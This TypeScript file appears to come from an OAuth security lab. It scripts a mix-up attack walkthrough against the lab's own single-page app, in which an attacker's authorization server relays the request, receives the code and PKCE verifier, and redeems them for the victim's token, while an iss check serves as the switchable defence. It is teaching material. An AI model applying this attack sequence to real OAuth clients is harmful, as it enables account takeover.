import { ATTACKER_AS, ENDPOINTS } from '../../authserver/paths';
import { GRANT_AUTHORIZATION_CODE } from '../../authserver/seed';
import { mixUp } from '../../flows/attacks/mix-up';
import {
  authorizationUrlBuilt,
  buildAuthorizationUrl,
  callbackStep,
  isRedirectTo,
  publicTokenRequest,
  tokenAnswer,
  userDecidesStep,
} from '../browser-flow';
import { stateMatches } from '../client-checks';
import { describeOAuthError, parseJsonObject } from '../client-requests';
import { pullNewServerEvents } from '../env';
import { checkIssuer, type IssuerExpectation } from '../issuer-check';
import { randomToken } from '../learner';
import { createCodeVerifier, s256CodeChallenge } from '../pkce';
import { recordCheck, recordedFetch } from '../recorder';
import { attackStopped, byAttacker, defineAttackWalkthrough, labSettingInput, toAttacker } from './define';
import { requestFrameTicket } from './frame-ticket';
import { attackerApiRequestStep, attackerApiResponseStep, attackerHoldsTokensStep, attackerTokenAnswer, victimSpa } from './victim-and-attacker';

/**
 * Mix-up against the lab's public single-page app (`spa`, Authorization Code with PKCE), which here
 * supports two authorization servers: the lab's (honest) and the attacker's, a second instance of the
 * server on the attacker's origin (`src/authserver/attacker/`) whose authorization endpoint sends the
 * browser on to the lab's with the same query. The page plays the app, whose iss check is the defence,
 * and the attacker, who redeems at the honest server what the app sent to the attacker's token endpoint.
 * @see RFC 9700 §4.4.1, §4.4.2.1; RFC 9207 §2.4
 */

/** The issuer the app stored for this sign-in, and whether that server says it sends `iss`. @see RFC 9207 §2.4, §3 */
function expectationOf(metadataText: string | undefined): IssuerExpectation | undefined {
  const metadata = parseJsonObject(metadataText ?? '');
  if (typeof metadata?.issuer !== 'string') return undefined;
  return { issuer: metadata.issuer, sendsIss: metadata.authorization_response_iss_parameter_supported === true };
}

/** An endpoint from the chosen server's metadata. @see RFC 8414 §2 */
function endpointOf(metadataText: string | undefined, name: 'authorization_endpoint' | 'token_endpoint'): string {
  const value = parseJsonObject(metadataText ?? '')?.[name];
  if (typeof value !== 'string') throw new Error(`The chosen server’s metadata has no ${name}: run the first step again.`);
  return value;
}

export const mixUpWalkthrough = defineAttackWalkthrough(mixUp, (env, lab) => {
  const redirectUri = `${env.origin}${victimSpa.redirect_path}`;
  const isRedirectBack = isRedirectTo(redirectUri);

  return {
    // The user picked the attacker's server; the app reads its metadata. @see RFC 8414 §3; RFC 9700 §4.4.2
    'attacker-as-metadata': {
      async run() {
        const { response, body, event } = await recordedFetch(
          env.fetch,
          env.recorder,
          `${lab.attacker.root}${ATTACKER_AS.metadata}`,
          { headers: { Accept: 'application/json' }, credentials: 'omit' },
          { server: 'authserver', channel: 'back' },
        );
        const events = toAttacker(lab, [event]);
        const expected = response.ok ? expectationOf(body) : undefined;
        if (!expected) {
          return {
            events,
            outcome: 'error',
            message: `The attacker’s server did not answer its metadata (HTTP ${response.status}). It lives on the other loopback name of the lab’s, so the lab must be served on localhost or 127.0.0.1.`,
          };
        }
        return { events, learner: { authorization_server: expected.issuer, authorization_server_metadata: body } };
      },
    },

    'redirect-to-attacker-as': {
      async run(input) {
        const metadata = input.learner.authorization_server_metadata;
        const pair = await s256CodeChallenge(createCodeVerifier(env.random));
        const state = randomToken(16, env.random);
        const frame = await requestFrameTicket(env);
        /** @see RFC 6749 §4.1.1; RFC 7636 §4.3 */
        const parameters = {
          response_type: { value: 'code', why: 'The Authorization Code grant. RFC 6749 §4.1.1' },
          client_id: { value: victimSpa.client_id, why: 'The app’s id; in this lab it is the same at both servers. RFC 6749 §2.2' },
          redirect_uri: { value: redirectUri, why: 'One redirect URI for both servers, so the callback alone cannot tell which server answered. RFC 9700 §4.4.1' },
          scope: { value: victimSpa.scope, why: 'What the app asks for. RFC 6749 §3.3' },
          state: { value: state, why: 'Binds the response to this browser (CSRF protection), not to a server. RFC 6749 §10.12' },
          code_challenge: { value: pair.code_challenge, why: 'S256 of a verifier the app keeps until the token request. RFC 7636 §4.2' },
          code_challenge_method: { value: pair.code_challenge_method, why: 'RFC 7636 §4.3' },
          [frame.parameter]: {
            value: frame.ticket,
            why: 'Lab only, not OAuth: names your learner on the honest server, which the browser reaches after a redirect through another site and so without its cookie.',
          },
        };
        const authorizationUrl = buildAuthorizationUrl(endpointOf(metadata, 'authorization_endpoint'), parameters);
        const stored = {
          'expected iss': { value: input.learner.authorization_server ?? '', why: 'Kept with this request: the issuer of the chosen server, from its metadata. RFC 9700 §4.4.2' },
        };
        const built = authorizationUrlBuilt(env, authorizationUrl, { ...parameters, ...stored }, {
          detail: 'The app stored state, the code_verifier and the issuer of the server the user chose, and sends the browser to that server’s authorization endpoint.',
          rfc: 'RFC 9700 §4.4.2',
        });
        return {
          events: [built],
          learner: { state, code_verifier: pair.code_verifier, code_challenge: pair.code_challenge, code_challenge_method: pair.code_challenge_method, redirect_uri: redirectUri, authorization_url: authorizationUrl },
        };
      },
    },

    'authorization-request': {
      async run(input) {
        const sent = input.learner.authorization_url ?? '';
        const landed = await env.frame.navigate(sent);
        const received = recordCheck(env.recorder, 'authorization request received', { url: sent, ...Object.fromEntries(new URL(sent).searchParams) }, true, {
          detail: 'The attacker’s server now knows the app’s client_id, redirect_uri, state and code_challenge.',
          rfc: 'RFC 9700 §4.4.1',
        });
        return { frameUrl: landed, events: byAttacker(lab, [received]) };
      },
    },

    // Where the browser landed tells where the attacker's server sent it (a cross-site redirect is not visible to the page).
    'attacker-redirects': {
      async run(input) {
        const sent = new URL(input.learner.authorization_url ?? '');
        const landedAt = env.frame.currentUrl() ?? input.frameUrl ?? '';
        const landed = new URL(landedAt, env.origin);
        const passedOn = landed.origin === env.origin && landed.pathname === ENDPOINTS.authorize && landed.search === sent.search;
        const bounce = recordCheck(env.recorder, 'sent on to the honest server', { from: `${sent.origin}${sent.pathname}`, to: landedAt, 'query unchanged': passedOn ? 'yes' : 'no' }, passedOn, {
          detail: 'A redirect to the honest server’s authorization endpoint with the app’s own query: the honest server will issue the code.',
          rfc: 'RFC 9700 §4.4.1',
        });
        const events = byAttacker(lab, [bounce]);
        if (!passedOn) return { events, outcome: 'error', message: `The browser did not arrive at the honest server’s authorization endpoint (it is at ${landedAt}).` };
        return { events };
      },
    },

    'user-decides': userDecidesStep(env, isRedirectBack),
    callback: callbackStep(env, isRedirectBack),

    // The defence: iss against the issuer stored for this request. @see RFC 9207 §2.4
    'check-iss': {
      async run(input) {
        const state = stateMatches(env, input.learner.state ?? '', input.learner.returned_state);
        const expected = expectationOf(input.learner.authorization_server_metadata);
        const verdict = checkIssuer(expected, input.learner.iss);
        const defence = lab.defence();
        const check = recordCheck(
          env.recorder,
          mixUp.attack.defence.check,
          { expected: expected?.issuer ?? '(none stored)', received: input.learner.iss ?? '(missing)', verdict: verdict.why, 'iss check': labSettingInput(defence) },
          verdict.passed,
          {
            detail:
              defence === 'on'
                ? verdict.passed
                  ? 'The response names the server the app sent the user to.'
                  : 'The response does not come from the server the app sent the user to: the app rejects it and makes no token request.'
                : 'Defence off: the app ignores iss and goes on with the server it believes it used.',
            rfc: 'RFC 9207 §2.4',
          },
        );
        const events = [state.event, check];
        if (!state.passed) return { events, outcome: 'error', message: 'state does not match: the app stops (RFC 6749 §10.12).' };
        if (!verdict.passed && defence === 'on') {
          return { events, ...attackStopped(mixUp, 'the response names another issuer than the one the app sent the user to, so it never sends the code anywhere.') };
        }
        return { events };
      },
    },

    // The app redeems at the token endpoint of the server it believes it used. @see RFC 9700 §4.4.1
    'token-request-to-attacker': {
      async run(input) {
        const body = new URLSearchParams({
          grant_type: GRANT_AUTHORIZATION_CODE,
          code: input.learner.code ?? '',
          redirect_uri: input.learner.redirect_uri ?? redirectUri,
          client_id: victimSpa.client_id,
          code_verifier: input.learner.code_verifier ?? '',
        });
        const { response, body: text, event } = await recordedFetch(
          env.fetch,
          env.recorder,
          endpointOf(input.learner.authorization_server_metadata, 'token_endpoint'),
          { method: 'POST', headers: { Accept: 'application/json' }, body, credentials: 'omit' },
          { server: 'authserver', channel: 'back' },
        );
        const kept = recordCheck(env.recorder, 'code and code_verifier received', { code: body.get('code'), code_verifier: body.get('code_verifier'), redirect_uri: body.get('redirect_uri') }, true, {
          detail: `What the app sent to the attacker’s token endpoint. Its own server never issued this code, so it answers the app HTTP ${response.status}; it has what it came for.`,
          rfc: 'RFC 9700 §4.4.1',
        });
        return {
          events: [...toAttacker(lab, [event]), ...byAttacker(lab, [kept])],
          learner: { ...tokenAnswer(response, text), attacker_code: body.get('code') ?? '', attacker_code_verifier: body.get('code_verifier') ?? '' },
        };
      },
    },

    'attacker-token-request': {
      async run(input) {
        // The app's client_id and redirect_uri: the attacker saw both in the authorization request.
        const { response, body, event } = await publicTokenRequest(env, {
          client_id: victimSpa.client_id,
          code: input.learner.attacker_code ?? '',
          redirect_uri: redirectUri,
          code_verifier: input.learner.attacker_code_verifier ?? '',
        });
        const pulled = await pullNewServerEvents(env, input, [event]);
        const result = { events: [...byAttacker(lab, [event]), ...pulled.events], serverSeq: pulled.serverSeq, learner: attackerTokenAnswer(response, body) };
        if (!response.ok) return { ...result, outcome: 'error', message: `The honest server refused the attacker: ${describeOAuthError(body, response.status)}.` };
        return result;
      },
    },

    'attacker-gets-tokens': attackerHoldsTokensStep(env, lab, 'An access token for the victim’s account at the honest server, issued to the attacker.'),
    'api-request': attackerApiRequestStep(env, lab),
    'api-response': attackerApiResponseStep(env, mixUp, 'with a code and verifier the app sent to the attacker’s token endpoint'),
  };
});
